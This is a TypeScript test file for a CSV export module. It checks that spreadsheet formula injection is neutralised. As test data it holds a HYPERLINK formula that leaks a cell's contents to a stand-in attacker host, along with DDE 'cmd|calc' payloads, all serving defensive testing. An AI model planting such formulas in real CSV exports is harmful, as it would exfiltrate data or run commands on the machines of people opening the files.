import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './csv.ts';

/** The cells of one CSV line without line breaks inside fields, unquoted as a spreadsheet reads them. */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  const pattern = /("([^"]|"")*"|[^,]*)(,|$)/g;
  for (const match of line.matchAll(pattern)) {
    if (match.index === line.length && cells.length > 0) break;
    const raw = match[1]!;
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
  }
  return cells;
}

describe('CSV', () => {
  it('quotes fields holding a comma, a quote or a line break', () => {
    expect(
      toCsv([
        ['date', 'name'],
        ['2026-11-01', 'Été, "promo"'],
      ]),
    ).toBe('date,name\r\n2026-11-01,"Été, ""promo"""\r\n');
  });

  it.each([
    [
      '=HYPERLINK("http://evil.example/?c="&A2,"Open report")',
      `"'=HYPERLINK(""http://evil.example/?c=""&A2,""Open report"")"`,
    ],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+cmd|calc', "'+cmd|calc"],
    ['-2+3+cmd|calc', "'-2+3+cmd|calc"],
    ['=NOTES()', "'=NOTES()"],
    ['\tcalc', "'\tcalc"],
    ['\rcalc', `"'\rcalc"`],
  ])('neutralises a cell a spreadsheet would run as a formula: %j', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('leaves numbers and plain decimal text as numbers', () => {
    expect(csvField(-2)).toBe('-2');
    expect(csvField('-2.50')).toBe('-2.50');
    expect(csvField('0.60')).toBe('0.60');
    expect(csvField('2026-11-01')).toBe('2026-11-01');
  });

  it('never writes a text cell a spreadsheet would start evaluating', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme-ascii' }), { minLength: 1, maxLength: 5 }), (row) => {
        const line = toCsv([row.map((cell) => cell.replace(/[\r\n]/g, ''))]).replace(/\r\n$/, '');
        for (const cell of cellsOf(line)) {
          expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toBe(false);
        }
      }),
    );
  });
});
